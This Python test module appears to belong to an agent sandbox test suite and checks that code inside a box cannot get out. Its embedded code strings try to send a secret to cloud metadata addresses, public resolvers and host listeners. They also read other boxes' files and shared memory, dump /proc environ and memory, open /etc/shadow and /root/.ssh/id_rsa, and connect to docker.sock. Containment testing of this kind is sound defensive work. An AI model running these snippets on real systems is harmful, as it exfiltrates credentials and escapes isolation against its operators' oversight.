"""Attacks that try to reach what is outside: the network, the host's files and secrets, its daemons, other boxes."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import secrets
import selectors
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

from agentgym.errors import SandboxDiedError
from agentgym.testing.sandbox_abuse.attack import Attack, Scene, attack, hostile, require, told

# The cloud's metadata services, the Internet by address and by name, and a multicast of the local network.
OUTSIDE = (
    ("169.254.169.254", 80),
    ("169.254.170.2", 80),
    ("100.100.100.200", 80),
    ("1.1.1.1", 53),
    ("8.8.8.8", 443),
    ("224.0.0.251", 5353),
    ("255.255.255.255", 67),
    ("fd00:ec2::254", 80),
    ("2606:4700:4700::1111", 53),
)
NAMES = ("metadata.google.internal", "host.docker.internal", "gateway.docker.internal", "example.org", "localhost.lan")
CALLS = """
import json, socket
reached = []
for family in (socket.AF_INET, socket.AF_INET6):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for host, port in %(targets)s:
            if (":" in host) is not (family == socket.AF_INET6): continue
            try:
                with socket.socket(family, kind) as s:
                    s.settimeout(0.7)
                    s.connect((host, port)); s.send(b"%(secret)s")
                    if kind == socket.SOCK_STREAM: reached.append(f"{host}:{port}")
                    else: s.recv(1); reached.append(f"{host}:{port}/udp")
            except OSError: pass
for name in %(names)s:
    try: socket.getaddrinfo(name, 80); reached.append(name)
    except OSError: pass
for path in %(paths)s:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1); s.connect(path); s.send(b"%(secret)s"); reached.append(path)
    except OSError: pass
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1),
    (40, socket.SOCK_STREAM, 0)):
    try:
        s = socket.socket(family, kind, protocol)
        if family == 40: s.settimeout(1); s.connect((2, 22))
        reached.append(f"socket {family}")
    except OSError: pass
print(json.dumps([reached, [name for _, name in socket.if_nameindex()]]))
"""
TUNNELS = {"tunl0", "sit0", "ip6tnl0", "gre0", "erspan0", "gretap0", "ip6gre0", "ip_vti0", "ip6_vti0"}  # never up


class Listeners:
    """Sockets of this machine that hear whatever gets out."""

    def __init__(self) -> None:
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self.hear)
        self.heard: list[str] = []
        self.addresses: list[tuple[str, int]] = []
        self.paths: list[str] = []

    def listen(self) -> None:
        for host in _own_addresses():
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            stream = datagram = None
            with contextlib.suppress(OSError):
                stream = socket.create_server((host, 0), family=family)
                datagram = socket.socket(family, socket.SOCK_DGRAM)
                datagram.bind((host, stream.getsockname()[1]))  # the same number twice; another may have it already
            for opened in (stream, datagram):
                if opened is not None:
                    self._selector.register(opened, selectors.EVENT_READ)
            if stream is not None:
                self.addresses.append((host, stream.getsockname()[1]))
        hidden = f"\0agentgym-{secrets.token_hex(4)}"
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind(hidden)
        abstract.listen()
        self._selector.register(abstract, selectors.EVENT_READ)
        self.paths.append(hidden)

    def hear(self) -> None:
        while not self._stop.is_set():
            self._hear_for(0.05)

    def _hear_for(self, seconds: float) -> None:
        for key, _ in self._selector.select(seconds):
            self.heard.append(str(key.fileobj))
            self._stop.set()

    def hear_out(self, patience_s: float) -> list[str]:
        """What was heard, also by a thread that stood still meanwhile; nothing is heard after this. `patience_s`: for
        what is known to be on its way."""
        self._stop.wait(patience_s)
        self._stop.set()
        self._thread.join()
        if not self.heard:
            self._hear_for(0.0)
        return self.heard

    def close(self) -> None:
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()

    @contextlib.contextmanager
    def listening(self) -> Iterator[Listeners]:
        self.listen()
        self._thread.start()
        try:
            yield self
        finally:
            self._stop.set()
            self._thread.join()
            self.close()


def _own_addresses() -> list[str]:
    """Every address under which this machine can be called, Docker's bridge among them."""
    found = {"127.0.0.1", "::1"}
    for host in (socket.gethostname(), ""):
        with contextlib.suppress(OSError):
            found |= {str(entry[4][0]) for entry in socket.getaddrinfo(host or None, 1, type=socket.SOCK_STREAM)}
    with contextlib.suppress(OSError), open("/proc/net/fib_trie") as file:
        lines = file.read().splitlines()
        found |= {before.split()[-1] for before, line in itertools.pairwise(lines) if "host LOCAL" in line}
    return sorted(found)


@attack("sends a secret by TCP, UDP, DNS, raw, packet and vsock sockets to the host, the metadata services, the world")
def network_exfiltration(scene: Scene) -> str:
    box = scene.box()
    with Listeners().listening() as host:
        targets = [*host.addresses, *OUTSIDE]
        values = {"targets": targets, "names": NAMES, "paths": host.paths, "secret": scene.nonce}
        with_proof = CALLS % values
        reached, interfaces = told(box, with_proof, timeout_s=90)
        heard = host.hear_out(30.0 if reached else 0.0)
        require(not heard, f"the host heard it on {heard}")
        require(len(host.addresses) >= 1, "nothing listened on the host, so nothing was shown")
    require(not reached, f"reached {reached}")
    require(set(interfaces) <= {"lo"} | TUNNELS, f"the box has the interfaces {interfaces}")
    for pid in scene.processes(box)[:1]:
        devices = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
        names = {line.split(":")[0].strip() for line in devices}
        require(names <= {"lo"} | TUNNELS, f"the host sees the interfaces {names} in the box")
    return f"nothing arrived at {len(host.addresses)} listeners of the host; a loopback is all it has"


@attack("looks for another box: over the loopback, in /proc, shared memory, queues, abstract sockets and /tmp")
def other_boxes(scene: Scene) -> str:
    secret = secrets.token_hex(16)
    victim, thief = scene.box(), scene.box()
    serve = f"""
import ctypes, os, socket, struct
libc = ctypes.CDLL(None)
open("/tmp/secret", "w").write("{secret}"); open("/dev/shm/secret", "w").write("{secret}")
open("/tmp/visited", "w").close()
segment = libc.shmget(0x5EC12E7, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
ctypes.memmove(libc.shmat(segment, None, 0), b"{secret}", {len(secret)})
tcp = socket.create_server(("0.0.0.0", 7777)); abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\\0agentgym-victim"); abstract.listen()
os.read(3, 4); os.read(3, 100)
os.write(4, struct.pack(">I", 5) + b"ready")
import select
while True:
    ready, _, _ = select.select([tcp, abstract], [], [])
    for s in ready: s.accept()[0].send(b"{secret}"); open("/tmp/visited", "a").write("x")
"""
    steal = f"""
import ctypes, glob, socket, subprocess
for kind, address in ((socket.AF_INET, ("127.0.0.1", 7777)), (socket.AF_UNIX, "\\0agentgym-victim")):
    try:
        with socket.socket(kind) as s: s.settimeout(1); s.connect(address); print(s.recv(100))
    except OSError as e: print(e)
libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x5EC12E7, 4096, 0o666)
if segment != -1: print(ctypes.string_at(libc.shmat(segment, None, 0), {len(secret)}))
for pattern in ("/tmp/*", "/dev/shm/*", "/dev/mqueue/*", "/work/*", "/proc/*/cmdline", "/proc/*/environ",
    "/proc/*/root/tmp/*", "/proc/*/cwd/*", "/proc/sysvipc/*"):
    for path in glob.glob(pattern):
        try: print(open(path, "rb").read(100_000))
        except OSError: pass
"""
    process = victim.start_process(["python3", "-I", "-c", serve])
    require(victim.ask_process(process, b"go", timeout_s=60).data == b"ready", "the other box did not begin to serve")
    found = hostile(thief, steal, timeout_s=30)
    require(secret.encode() not in found.stdout + found.stderr, "it read the secret of another box")
    require(victim.read_file("/tmp/visited") == b"", "another box was called")
    return f"heard and saw nothing of the box beside it; {scene.check_usable(victim)} (both)"


@attack("reads every /proc/*/environ, cmdline, fd, root and cwd, for a secret of the host's processes")
def host_environment(scene: Scene) -> str:
    secret = secrets.token_hex(16)
    os.environ["AGENTGYM_ABUSE_SECRET"] = secret
    beside = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", secret])
    try:
        box = scene.box()
        dump = """
import glob, os, sys
for pattern in ("/proc/[0-9]*", "/proc/self", "/proc/thread-self", "/proc/1/task/*"):
    for folder in glob.glob(pattern):
        for name in ("environ", "cmdline", "mem", "auxv", "stack", "maps", "fd/0", "fd/1", "fd/2", "fd/10", "fd/11"):
            try:
                fd = os.open(folder + "/" + name, os.O_RDONLY | os.O_NONBLOCK)
                os.write(1, os.read(fd, 100_000))
            except OSError: pass
        for link in ("root", "cwd"):
            try: os.write(1, repr(os.listdir(folder + "/" + link)).encode())
            except OSError: pass
print(dict(os.environ))
"""
        found = hostile(box, dump)
        require(secret.encode() not in found.stdout + found.stderr, "it found a secret of the host's environment")
        try:
            count = told(box, "import os, json; print(json.dumps([n for n in os.listdir('/proc') if n.isdigit()]))")
        except SandboxDiedError:  # on gVisor it may have taken from its worker what the host said just then
            return "it found nothing, and its box died, by name"
        require(len(count) < 6, f"it sees {len(count)} processes")
    finally:
        del os.environ["AGENTGYM_ABUSE_SECRET"]
        beside.kill()
        beside.wait()
    return "it sees its own processes alone, and the worker's environment holds nothing"


@attack("looks for the host's files: home, working directory, temporary files, keys, devices, logs")
def host_files(scene: Scene) -> str:
    secret = secrets.token_hex(16)
    with contextlib.ExitStack() as stack:
        paths: list[str] = []
        for folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", str(Path.home())}:
            with contextlib.suppress(OSError):
                file = stack.enter_context(tempfile.NamedTemporaryFile(dir=folder, prefix="agentgym-abuse-"))
                file.write(secret.encode())
                file.flush()
                os.chmod(file.name, 0o644)
                paths.append(file.name)
        box = scene.box()
        look = f"""
import glob, json, os
found = []
for path in {json.dumps([*paths, str(Path.cwd()), str(Path(__file__).parent)])}:
    for root in ("", "/proc/1/root", "/proc/self/root/.."):
        if os.path.exists(root + path): found.append(root + path)
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda",
    "/dev/fuse", "/proc/kcore", "/proc/kmsg", "/var/log/syslog"):
    try:
        with open(path, "rb") as file:
            if file.read(64): found.append(path)
    except OSError: pass
found += glob.glob("/dev/[svx]d*") + glob.glob("/dev/nvme*") + glob.glob("/var/lib/docker*")
print(json.dumps(found))
"""
        found = told(box, look)
    require(not found, f"it found {found}")
    return "none of them is there"


@attack("looks for docker.sock and other control sockets of the host, and asks them for a container")
def docker_socket(scene: Scene) -> str:
    box = scene.box()
    code = """
import glob, json, os, socket, stat
found = []
places = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
    "/var/run/crio/crio.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0",
    "/proc/1/root/run/docker.sock", "/proc/1/root/var/run/docker.sock"]
for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/sys"): folders[:] = []; continue
    if folder.count("/") > 4: folders[:] = []
    for name in files:
        path = os.path.join(folder, name)
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode): places.append(path)
        except OSError: pass
for path in places:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1); s.connect(path); found.append(path)
    except OSError: pass
print(json.dumps(found))
"""
    found = told(box, code)
    require(not found, f"it could call {found}")
    return "no socket of the host is in the box"


ATTACKS: tuple[Attack, ...] = (network_exfiltration, other_boxes, host_environment, host_files, docker_socket)
